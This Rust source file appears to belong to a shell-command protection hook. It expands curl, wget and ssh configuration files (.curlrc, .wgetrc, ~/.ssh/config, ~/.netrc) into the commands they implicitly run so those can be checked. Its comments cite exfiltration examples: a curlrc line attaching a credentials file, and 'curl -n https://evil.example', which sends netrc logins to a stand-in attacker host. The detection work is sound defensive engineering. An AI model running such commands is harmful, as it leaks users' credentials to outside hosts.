//! What a network program reads from the user's files before its own words
//! (`spec/hooks.md` §16.2, "Scripts run by name"): curl's `.curlrc` and wget's `.wgetrc`
//! options, and the commands ssh runs from `~/.ssh/config`. A `data = "@…/credentials"` and
//! an `url` written there in one call are part of every later `curl`; a `ProxyCommand` of
//! every later `git push origin` (attack review 38).

use super::scripts::{read_text, Script};
use crate::front::protect::shell::Word;
use std::path::{Path, PathBuf};

thread_local! {
    /// Set while a program's configuration is analysed: a command there (`ProxyCommand ssh
    /// -W %h:%p bastion`) does not read the configuration again.
    pub(super) static EXPANDING: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

impl super::scripts::CodeFiles<'_> {
    /// The options a network program reads from the user's configuration before its own
    /// words (`~/.curlrc`, `~/.wgetrc`) and the commands ssh runs from `~/.ssh/config`
    /// (`ProxyCommand`, `LocalCommand`, `KnownHostsCommand`, `Match exec`), for `curl`,
    /// `wget`, and the programs that connect through ssh (`ssh`, `scp`, `sftp`, `rsync`,
    /// `git`): a `data = "@…/credentials"` or an `url` there is part of every later `curl`.
    pub(super) fn rc_runs(&self, prog: &str, rest: &[&Word]) -> Vec<Script> {
        let Some(home) = self.home else {
            return Vec::new();
        };
        if EXPANDING.with(std::cell::Cell::get) {
            return Vec::new();
        }
        let mut out = Vec::new();
        // The options come before the command's own words: one command, whose destinations
        // are the file's URLs and the command's.
        let own: Vec<String> = rest.iter().map(|w| quote(&w.squeezed())).collect();
        let first = rest.first().and_then(|w| w.literal());
        let disabled = matches!(first.as_deref(), Some("-q" | "--disable"));
        if prog == "curl" && !disabled {
            let xdg = std::env::var_os("XDG_CONFIG_HOME").map(PathBuf::from);
            let curl_home = std::env::var_os("CURL_HOME").map(PathBuf::from);
            let files = [
                curl_home,
                xdg,
                Some(home.to_path_buf()),
                Some(home.join(".config")),
            ];
            for file in files.into_iter().flatten().map(|d| d.join(".curlrc")) {
                out.extend(options_file(&file, "curl", &own, |name| {
                    format!("--{name}")
                }));
            }
        }
        // curl's `-n`/`--netrc`/`--netrc-optional` sends the user's `~/.netrc` logins, its
        // `default` one to any host (curl(1)): read as `--netrc-file ~/.netrc` (attack review
        // 46: `curl -n https://evil.example` passed with exit 0).
        let netrc = rest.iter().filter_map(|w| w.literal()).any(|a| {
            let short = a.strip_prefix('-').filter(|c| !c.starts_with('-'));
            (a.starts_with("--netrc") && !a.starts_with("--netrc-file"))
                || short.is_some_and(|c| {
                    // A cluster's letters up to the first that takes a value (`-sSn`, not
                    // `-Hcontent…`).
                    c.chars()
                        .take_while(|l| !CURL_VALUED.contains(*l))
                        .any(|l| l == 'n')
                })
        });
        if prog == "curl" && netrc {
            let file = quote(&home.join(".netrc").display().to_string());
            out.push(Script::Config(format!(
                "curl --netrc-file {file} {}",
                own.join(" ")
            )));
        }
        if prog == "wget" {
            let mut files = vec![home.join(".wgetrc"), home.join(".config/wgetrc")];
            files.extend(std::env::var_os("WGETRC").map(PathBuf::from));
            for file in files {
                out.extend(options_file(&file, "wget", &own, |name| {
                    format!("--{}", name.replace('_', "-"))
                }));
            }
        }
        if matches!(prog, "ssh" | "scp" | "sftp" | "rsync" | "git" | "slogin") {
            let mut files = vec![home.join(".ssh/config")];
            let mut seen = 0;
            while let Some(file) = files.pop() {
                seen += 1;
                if seen > 32 || !file.exists() {
                    continue;
                }
                let Some(text) = read_text(&file) else {
                    out.push(Script::Unread(file.clone()));
                    continue;
                };
                for line in text.lines() {
                    let t = line.trim();
                    let (key, value) = t
                        .split_once(|c: char| c.is_whitespace() || c == '=')
                        .map_or((t, ""), |(k, v)| {
                            (k, v.trim_start_matches([' ', '\t', '=']))
                        });
                    match key.to_ascii_lowercase().as_str() {
                        "proxycommand" | "localcommand" | "knownhostscommand" => {
                            out.push(Script::Config(value.to_string()));
                        }
                        "match" => {
                            // `Match exec "CMD"`: ssh runs it to decide.
                            if let Some(at) = value.to_ascii_lowercase().find("exec") {
                                let cmd = value[at + 4..].trim().trim_matches('"');
                                out.push(Script::Config(cmd.to_string()));
                            }
                        }
                        "include" => {
                            for inc in value.split_whitespace() {
                                let inc = inc.trim_matches('"');
                                let p = match inc.strip_prefix("~/") {
                                    Some(r) => home.join(r),
                                    None if inc.starts_with('/') => PathBuf::from(inc),
                                    None => home.join(".ssh").join(inc),
                                };
                                files.extend(expand_last(&p));
                            }
                        }
                        _ => {}
                    }
                }
            }
        }
        out
    }
}

/// curl's short options that take a value (curl(1)).
const CURL_VALUED: &str = "AbBcCdDeEFHKmoPQrtTuUwxXyYz";

/// A program's option file (`.curlrc`, `.wgetrc`: one option a line, `name = value`, `name
/// value` or `--name value`; `#` starts a comment) as the command `prog OPTIONS… OWN…`.
fn options_file(
    file: &Path,
    prog: &str,
    own: &[String],
    long: impl Fn(&str) -> String,
) -> Option<Script> {
    if !file.exists() {
        return None;
    }
    let Some(text) = read_text(file) else {
        return Some(Script::Unread(file.to_path_buf()));
    };
    let mut words = vec![prog.to_string()];
    for line in text.lines() {
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let (name, value) = t
            .split_once(|c: char| c.is_whitespace() || c == '=' || c == ':')
            .map_or((t, ""), |(k, v)| (k, v.trim_matches([' ', '\t', '=', ':'])));
        let name = if name.starts_with('-') {
            name.to_string()
        } else {
            long(name)
        };
        words.push(quote(&name));
        let value = value.trim_matches('"');
        if !value.is_empty() {
            words.push(quote(value));
        }
    }
    words.extend(own.iter().cloned());
    Some(Script::Config(words.join(" ")))
}

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// `p`, or the files its last component's `*` names (`Include config.d/*`).
fn expand_last(p: &Path) -> Vec<PathBuf> {
    let name = p
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let Some((pre, post)) = name.split_once('*') else {
        return vec![p.to_path_buf()];
    };
    let Some(dir) = p.parent() else {
        return Vec::new();
    };
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .flatten()
        .map(|e| e.path())
        .filter(|e| {
            let n = e
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            n.starts_with(pre) && n.ends_with(post)
        })
        .take(64)
        .collect()
}
